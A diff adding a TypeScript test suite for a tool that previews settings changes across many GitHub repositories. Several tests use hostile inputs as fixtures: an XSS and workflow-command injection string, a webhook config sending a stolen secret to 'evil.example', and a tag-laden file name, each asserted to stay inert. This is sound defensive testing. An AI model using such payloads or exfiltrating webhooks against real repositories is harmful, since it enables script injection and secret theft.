@@ -1,0 +1,391 @@
+import { readFileSync } from 'node:fs';
+import { Ajv2020 } from 'ajv/dist/2020.js';
+import { describe, expect, it } from 'vitest';
+import { fromCheckRun } from '../../src/approval/check-run.ts';
+import { documentOf, planText } from '../../src/approval/document.ts';
+import { Secret } from '../../src/host/secret.ts';
+import type { RunOptions } from '../../src/inputs/options.ts';
+import { jsonReport } from '../../src/report/json.ts';
+import { terminalReport } from '../../src/report/terminal.ts';
+import { exitCodeOf } from '../../src/run/exit.ts';
+import { run } from '../../src/run/run.ts';
+import type { RepositorySeed } from '../../src/simulator/index.ts';
+import type { World } from '../../src/world/world.ts';
+import { type PullScene, pullScene } from '../pull-request.ts';
+import { memoryFiles, plainOptions, told, worldOf } from '../scene.ts';
+
+const label = (name: string, color: string) => `labels:\n  - {name: ${name}, color: ${color}}\n`;
+const live = (name: string, color: string) => [{ name, color, description: null }];
+
+const service = (name: string, color = 'aaaaaa', more: object = {}): RepositorySeed => ({
+  owner: 'acme',
+  name,
+  labels: live('bug', color),
+  ...more,
+});
+
+const services = (count: number) => Array.from({ length: count }, (_, at) => service(`service-${at}`));
+
+const fleetOptions = (others: readonly RepositorySeed[]): Partial<RunOptions> => ({
+  repository: undefined,
+  repos: others.map(({ owner, name }) => ({ owner: owner as string, name: name as string })),
+  reposDir: 'repositories',
+  defaultsFile: 'defaults.yml',
+  privateRepos: 'show',
+});
+
+/** The central repository `acme/shop`, whose pull request changes files for the others. */
+function fleetScene(scene: PullScene & { readonly others: readonly RepositorySeed[] }) {
+  const opened = pullScene(scene);
+  type Push = typeof opened.push;
+  const push = (texts: Parameters<Push>[0], options: Partial<RunOptions> = {}, ...more: [number?, object?, object?]) =>
+    opened.push(texts, { ...fleetOptions(scene.others), ...options }, ...more);
+  const askedOf = (name: string) =>
+    opened.asked.filter(({ request }) => request.includes(`/acme/${name}/`)).map(({ request }) => request);
+  return { ...opened, push, askedOf };
+}
+
+const rows = (html: string) => html.match(/<tr><td>.*<\/td><\/tr>/g) ?? [];
+const plain = (html: string) => html.replace(/<[^>]+>/g, ' ').replaceAll('&quot;', '"');
+
+const folder = 'repositories/acme';
+const base = { 'defaults.yml': label('bug', 'aaaaaa'), [`${folder}/odd.yml`]: label('bug', 'aaaaaa') };
+const pull = { ...base, 'defaults.yml': label('bug', 'bbbbbb') };
+
+describe('a preview of several repositories', () => {
+  it('shows a changed default once for all 300 repositories that get it [12.9]', async () => {
+    const others = services(300);
+    const { push, comments, checkRuns, simulator } = fleetScene({ base, others });
+    const result = await push(pull);
+    expect([result.outcome, exitCodeOf(result), told(result, 'error')]).toEqual(['success', 0, []]);
+    const [comment] = comments();
+    const text = plain(comment!.body);
+    expect(text).toContain('Merging this changes 300 settings in 300 repositories');
+    expect(rows(comment!.body).filter((row) => row.includes('color:'))).toEqual([
+      expect.stringMatching(/~ bug.*color: aaaaaa → bbbbbb.*in 300 repositories.*and 280 more/),
+    ]);
+    expect(comment!.body.length).toBeLessThan(4_000);
+    expect(checkRuns()).toMatchObject([{ conclusion: 'success' }]);
+    expect(simulator.objections).toEqual([]);
+    const log = terminalReport(result, { colour: false });
+    expect(log).toContain('changes: 300 (acme/service-0, acme/service-1,');
+    expect(log.match(/aaaaaa → bbbbbb/g)).toHaveLength(1);
+    expect(log.split('\n').length).toBeLessThan(30);
+  }, 60_000);
+
+  it('reads no repository whose settings are the same on both sides [12.8]', async () => {
+    const others = [service('odd'), service('service-0')];
+    const { push, askedOf } = fleetScene({ base, others });
+    const written = `# another comment, and another order of keys\nlabels:\n  - color: "aaaaaa"\n    name: bug\n`;
+    await push({ ...base, [`${folder}/odd.yml`]: written });
+    expect([askedOf('odd'), askedOf('service-0')]).toEqual([[], []]);
+    await push(pull, {}, 2);
+    expect(askedOf('odd')).toEqual([]);
+    expect(askedOf('service-0')).toContain('GET /repos/acme/service-0/labels');
+  });
+
+  it('fetches from the base no file that the pull request leaves as it is [12.8]', async () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 40 }, (_, at) => [`${folder}/service-${at}.yml`, label('bug', 'aaaaaa')]),
+    );
+    const { push, asked } = fleetScene({ base: many, others: services(40) });
+    const texts = { ...many, [`${folder}/service-7.yml`]: label('bug', 'bbbbbb') };
+    const result = await push(texts, { defaultsFile: undefined });
+    expect(result.targets.filter(({ preview }) => preview).map(({ repository }) => repository)).toEqual([
+      'acme/service-7',
+    ]);
+    const ofBase = asked.filter(({ request }) => /acme\/shop\/(contents|git)/.test(request)).map((one) => one.request);
+    expect(ofBase.filter((request) => request.includes('/contents/'))).toEqual([
+      'GET /repos/acme/shop/contents/repositories%2Facme%2Fservice-7.yml',
+    ]);
+    expect(ofBase.length).toBeLessThan(6);
+  });
+
+  it('gives way to the file of a repository, which merging does not change [12.8]', async () => {
+    const files = { '.github/settings.yml': label('bug', 'cccccc') };
+    const { push, askedOf } = fleetScene({ base, others: [service('own', 'aaaaaa', { files }), service('other')] });
+    const { targets } = await push(pull);
+    expect(targets.map(({ preview }) => preview?.shown.changes.length)).toEqual([undefined, 1]);
+    expect(askedOf('own')).toEqual(['GET /repos/acme/own/contents/.github%2Fsettings.yml']);
+  });
+
+  it('follows a repository to another file, and warns where none is left', async () => {
+    const { 'defaults.yml': _, ...alone } = base;
+    const { push, comments } = fleetScene({ base: alone, others: [service('odd'), service('new')] });
+    const result = await push({ [`${folder}/new.yml`]: label('bug', 'bbbbbb') }, { defaultsFile: undefined });
+    expect(result.targets.map(({ preview }) => preview?.shown.changes.map(({ subject }) => subject))).toEqual([
+      undefined,
+      [['bug']],
+    ]);
+    expect(told(result, 'warning')).toEqual([
+      'warning: the pull request leaves no settings file for it, so nothing would be held to a file any more',
+    ]);
+    expect(plain(comments()[0]!.body)).toMatch(/loses its settings file\s+1\s+acme\/odd/);
+  });
+
+  it('keeps one line for a repository whose details are withheld, and counts it [12.9]', async () => {
+    const others = [service('open'), service('canary-of-the-name', 'aaaaaa', { visibility: 'private' })];
+    const { push, comments, checkRuns } = fleetScene({ base, others });
+    const result = await push(pull, { privateRepos: 'redact' });
+    const log = terminalReport(result, { colour: false });
+    const said = JSON.stringify([jsonReport(result), log, comments(), checkRuns()]);
+    expect(said).not.toContain('canary-of-the-name');
+    const body = comments()[0]!.body;
+    expect(plain(body)).toContain('Merging this changes 2 settings in 2 repositories');
+    expect(
+      rows(body)
+        .filter((row) => row.includes('redacted-2'))
+        .map(plain),
+    ).toEqual([
+      expect.stringMatching(/changes\s+2\s+acme\/open\s*,\s*redacted-2/),
+      expect.stringMatching(/redacted-2\s+1 setting\s*$/),
+    ]);
+    expect(log).toContain('redacted-2: 1 setting');
+  });
+
+  it('exits 1 where a repository cannot be read, and shows the others [12.9]', async () => {
+    const others = [...services(3)];
+    const { push, comments, checkRuns } = fleetScene({ base, others });
+    const repos = [...fleetOptions(others).repos!, { owner: 'acme', name: 'gone' }] as RunOptions['repos'];
+    const result = await push(pull, { repos });
+    expect([result.outcome, exitCodeOf(result)]).toEqual(['failed', 1]);
+    const text = plain(comments()[0]!.body);
+    expect(text).toContain('Merging this changes 3 settings in 3 repositories, and has 1 error');
+    expect(text).toMatch(/failed\s+1\s+acme\/gone[\s\S]*changes\s+3\s+acme\/service-0/);
+    expect(checkRuns()).toMatchObject([{ conclusion: 'failure' }]);
+  });
+
+  it('has one comment after five pushes, and edits no comment of anybody else [12.2]', async () => {
+    const first = fleetScene({ base, others: services(2) });
+    for (const number of [1, 2, 3, 4, 5])
+      await first.push({ ...base, 'defaults.yml': label('bug', `00000${number}`) }, {}, number);
+    expect(first.comments().map(({ user }) => user)).toEqual(['github-actions[bot]']);
+    expect(first.comments()[0]!.body).toContain('000005');
+    expect(first.checkRuns()).toHaveLength(5);
+
+    const forged = { issue: 7, user: 'mallory', body: first.comments()[0]!.body };
+    const second = fleetScene({ base, others: services(2), repository: { comments: [forged] } });
+    await second.push(pull);
+    expect(second.comments().map(({ user }) => user)).toEqual(['mallory', 'github-actions[bot]']);
+    expect(second.comments()[0]!.body).toBe(forged.body);
+    await second.push(base, {}, 2);
+    expect(second.comments()[1]!.body).toContain('Merging this changes no settings.');
+  });
+
+  it('keeps thousands of distinct changes below 60,000 characters, in whole rows that add up with the count [12.5]', async () => {
+    const colours = (at: number, letter: string) =>
+      `labels:\n${Array.from({ length: 60 }, (_, of) => `  - {name: label-${at}-${of}, color: ${letter.repeat(6)}}\n`).join('')}`;
+    const files = (letter: string) =>
+      Object.fromEntries(Array.from({ length: 25 }, (_, at) => [`${folder}/service-${at}.yml`, colours(at, letter)]));
+    const others = services(25).map((one, at) => ({
+      ...one,
+      labels: Array.from({ length: 60 }, (_, of) => ({
+        name: `label-${at}-${of}`,
+        color: 'aaaaaa',
+        description: null,
+      })),
+    }));
+    const { push, comments } = fleetScene({ base: files('a'), others });
+    await push(files('b'), { defaultsFile: undefined });
+    const body = comments()[0]!.body;
+    expect(body.length).toBeLessThan(60_000);
+    expect(body).toContain('Merging this changes 1500 settings in 25 repositories');
+    const [, left] = /: (\d+) more changes are left out/.exec(body)!;
+    expect(rows(body).filter((row) => row.includes('color:')).length + Number(left)).toBe(1_500);
+  }, 60_000);
+
+  it('keeps values from outside inert in the comment and in the log [12.5]', async () => {
+    const nasty = 'hi @acme/all <img src=x onerror=alert(1)> ::error::x ![x](http://evil.example) ``` |';
+    const settings = `labels:\n  - {name: bug, color: aaaaaa, description: ${JSON.stringify(nasty)}}\n`;
+    const { push, comments } = fleetScene({ base, others: services(4) });
+    const result = await push({ ...base, 'defaults.yml': settings });
+    const body = comments()[0]!.body;
+    expect(body).toContain('&lt;img src=x');
+    expect(body).not.toContain('<img');
+    expect(body.replace(/<code>.*?<\/code>/g, '')).not.toMatch(/@acme|evil\.example|```/);
+    expect(terminalReport(result, { colour: false })).not.toMatch(/(^|\s)::error/m);
+  });
+
+  it('follows the schema of the JSON report', async () => {
+    const result = await fleetScene({ base, others: [service('odd'), ...services(2)] }).push(pull);
+    const schema = JSON.parse(readFileSync(new URL('../../docs/report.schema.json', import.meta.url), 'utf8'));
+    const validate = new Ajv2020({ strict: false }).compile(schema);
+    validate(JSON.parse(jsonReport(result)));
+    expect(validate.errors).toBeNull();
+  });
+});
+
+describe('the base of several repositories', () => {
+  const outside = { GITHUB_ACTIONS: undefined, GITHUB_EVENT_NAME: undefined };
+  const others = [service('odd'), service('plain')];
+  const changed = { ...pull, [`${folder}/odd.yml`]: label('bug', 'dddddd') };
+  const isDirectory = Object.assign(new Error('is a directory'), { code: 'EISDIR' });
+  /** A disk on which the base is a folder beside the checkout, as `render` may have filled it. */
+  const beside = {
+    read: async (path: string) => {
+      if (['base', 'base/repositories'].includes(path)) throw isDirectory;
+      return path.startsWith('base/') ? (base as Record<string, string>)[path.slice(5)] : undefined;
+    },
+    write: async () => {},
+  };
+  const loads: Partial<World> = {
+    load: async (path) => (path.startsWith('base/') ? base : changed)[path.replace(/^base\//, '') as 'defaults.yml'],
+    list: async (path) => Object.keys(path.startsWith('base/') ? base : changed).flatMap(inFolder),
+  };
+  const inFolder = (path: string) => (path.startsWith('repositories/') ? [path.slice('repositories/'.length)] : []);
+
+  it.each([
+    ['a folder, such as the rendered layers of the target branch', 'base', { files: beside, ...loads }],
+    [
+      'a ref of the checkout',
+      'origin/main',
+      {
+        fileAt: async (ref: string, file: string) =>
+          ref === 'origin/main' ? { text: (base as Record<string, string>)[file] } : undefined,
+        filesAt: async (ref: string, path: string) =>
+          ref === 'origin/main' ? Object.keys(base).flatMap(path === '.' ? (one) => [one] : inFolder) : undefined,
+      },
+    ],
+  ])('may be %s', async (_, named, reach) => {
+    const { push, writes } = fleetScene({ others });
+    const result = await push(changed, { base: named, post: false }, 1, outside, reach as Partial<World>);
+    expect(told(result, 'error')).toEqual([]);
+    expect(result.targets.map(({ preview }) => preview?.shown.changes[0]?.changes)).toEqual([
+      [{ key: 'color', before: 'aaaaaa', after: 'dddddd' }],
+      [{ key: 'color', before: 'aaaaaa', after: 'bbbbbb' }],
+    ]);
+    expect(writes()).toEqual([]);
+  });
+
+  it('is asked for where nothing names it, and refused where it is neither', async () => {
+    const { push, asked } = fleetScene({ others });
+    const unnamed = await push(changed, { post: false }, 1, outside);
+    expect(told(unnamed, 'error')[0]).toContain('nothing says what to compare with');
+    const wrong = await push(changed, { base: 'trunk', post: false }, 1, outside);
+    expect(told(wrong, 'error')[0]).toContain('`trunk` is neither a folder nor a ref of a checkout here');
+    expect(asked).toEqual([]);
+  });
+
+  it('counts as empty where it lacks a file or has a mistake, and the pull request may fix that [12.6]', async () => {
+    const bare = fleetScene({ base: {}, others });
+    const added = await bare.push(pull);
+    expect([added.outcome, told(added, 'error')]).toEqual(['success', []]);
+    expect(told(added, 'note').join('\n')).toMatch(
+      /the base has no `repositories`[\s\S]*the base has no `defaults.yml`/,
+    );
+    const refused = fleetScene({
+      base: { 'defaults.yml': 'labels: 7\n', [`${folder}/odd.yml`]: 'labels: 7\n' },
+      others,
+    });
+    const fixed = await refused.push(pull);
+    expect([fixed.outcome, fixed.targets.map(({ preview }) => preview?.shown.changes.length)]).toEqual([
+      'success',
+      [0, 1],
+    ]);
+    expect(told(fixed, 'note').filter((line) => line.includes('of the base is refused'))).toHaveLength(2);
+  });
+
+  it('refuses a wrong file of the pull request before it asks for anything of a repository', async () => {
+    const { push, asked, comments } = fleetScene({ base, others });
+    const result = await push({ ...base, [`${folder}/odd.yml`]: 'labels: 7\n' });
+    expect([result.outcome, told(result, 'error')[0]]).toEqual(['failed', expect.stringContaining('must be a list')]);
+    expect(asked.some(({ request }) => /acme\/(odd|plain)/.test(request))).toBe(false);
+    expect(comments()).toHaveLength(1);
+  });
+});
+
+describe('what a preview of several repositories exits with', () => {
+  it('exits 2 under `fail-on-drift` where one that it reads differs from the base already [12.3]', async () => {
+    const others = [service('drifted', 'cccccc'), service('clean')];
+    const { push } = fleetScene({ base, others });
+    expect(exitCodeOf(await push(pull))).toBe(0);
+    expect(exitCodeOf(await push(pull, { failOnDrift: true }, 2))).toBe(2);
+    const clean = fleetScene({ base, others: [service('clean')] });
+    expect(exitCodeOf(await clean.push(pull, { failOnDrift: true }))).toBe(0);
+  });
+
+  it('exits 1 under `brakes: stop` where more repositories would change than may [12.3]', async () => {
+    const { push } = fleetScene({ base, others: services(3) });
+    expect(exitCodeOf(await push(pull, { brakes: 'stop', maxChangedTargets: 3 }))).toBe(0);
+    const held = await push(pull, { brakes: 'stop', maxChangedTargets: 2 }, 2);
+    expect([exitCodeOf(held), told(held, 'error')[0]]).toEqual([
+      1,
+      expect.stringContaining('3 repositories would change'),
+    ]);
+    const warned = await push(pull, { brakes: 'warn', maxChangedTargets: 2 }, 3);
+    expect([exitCodeOf(warned), told(warned, 'warning').length]).toEqual([0, 1]);
+  });
+});
+
+it('leaves the plan of all repositories that it read in the check run, and apply holds to it [12.10]', async () => {
+  const others = services(2);
+  const { push, checkRuns, simulator } = fleetScene({ base, others });
+  const previewed = await push(pull);
+  const document = documentOf(previewed.targets.flatMap(({ plan }) => plan?.shown ?? []));
+  const [checkRun] = checkRuns();
+  expect(fromCheckRun(checkRun!.external_id, checkRun!.output.text).document!.targets).toMatchObject(
+    document.targets.map(({ repository, items }) => ({ repository, items: items.map(({ id }) => ({ id })) })),
+  );
+  const approved: RunOptions = {
+    ...plainOptions,
+    ...fleetOptions(others),
+    settingsFile: '.github/settings.yml',
+    token: new Secret('strong'),
+    mode: 'apply',
+    plan: { file: 'plan.json' },
+  };
+  const world = worldOf(simulator, '');
+  const files = memoryFiles({ 'plan.json': planText(document) });
+  const labels = simulator.repository('acme/service-1').labels as { color: string }[];
+  labels[0]!.color = 'eeeeee';
+  const reach = { load: async () => pull['defaults.yml'], list: async () => [] };
+  const result = await run(approved, { ...world, files, ...reach });
+  expect(result.targets.map(({ outcome }) => outcome)).toEqual(['success', 'failed']);
+  expect(told(result, 'error')[0]).toContain('since the approved plan');
+});
+
+describe('a preview of several repositories for a fork', () => {
+  const secret = 'canary-of-the-secret';
+  const events = ['pull_request', 'pull_request_target', 'workflow_run'] as const;
+  const stranger = {
+    ...pull,
+    [`${folder}/made-up.yml`]:
+      'webhooks:\n  - {config: {url: "https://evil.example/hook", secret: $STOLEN}, events: [push]}\n',
+    'repositories/<img src=x>.yml': label('bug', 'bbbbbb'),
+  };
+  const forkScene = (event: string) => {
+    const scene = fleetScene({ base, others: services(2), event, from: 'mallory/shop' });
+    const push = (texts: Record<string, string> = stranger, options: Partial<RunOptions> = {}) =>
+      scene.push(texts, { pullRequest: 7, fork: false, ...options }, 1, { STOLEN: secret });
+    return { ...scene, push };
+  };
+
+  it.each(events)('compares file by file, with no secret and no look at a repository, by %s [12.7]', async (event) => {
+    const { push, asked, comments, checkRuns } = forkScene(event);
+    const result = await push();
+    expect(told(result, 'error')).toEqual([]);
+    expect(new Set(asked.map(({ token }) => token))).toEqual(new Set(['workflow']));
+    expect(asked.filter(({ request }) => !request.includes('/repos/acme/shop/'))).toEqual([]);
+    expect(asked.filter(({ request }) => /labels|hooks|collaborators|teams/.test(request))).toEqual([]);
+    expect(result.targets.map(({ repository, preview }) => [repository, preview!.against])).toEqual([
+      ['defaults.yml', 'files'],
+      ['repositories/<img src=x>.yml', 'files'],
+      ['repositories/acme/made-up.yml', 'files'],
+    ]);
+    const body = comments()[0]!.body;
+    expect(plain(body)).toContain('This pull request changes 4 settings in 3 files');
+    expect(body).not.toContain('<img');
+    expect(JSON.stringify([result, body, checkRuns()])).not.toContain(secret);
+    expect(checkRuns()).toMatchObject([{ conclusion: 'success', external_id: '' }]);
+  });
+
+  it('refuses a file with mistakes, and more files than a token should fetch', async () => {
+    const wrong = await forkScene('pull_request').push({ ...base, [`${folder}/odd.yml`]: 'labels: 7\n' });
+    expect([wrong.outcome, told(wrong, 'error')[0]]).toEqual(['failed', expect.stringContaining('must be a list')]);
+    const many = Object.fromEntries(Array.from({ length: 301 }, (_, at) => [`${folder}/${at}.yml`, '{}\n']));
+    const { push, asked } = forkScene('pull_request');
+    const result = await push({ ...base, ...many });
+    expect([result.outcome, told(result, 'error')[0]]).toEqual(['failed', expect.stringContaining('at most 300')]);
+    expect(asked.some(({ request }) => request.includes('/contents/'))).toBe(false);
+  });
+});
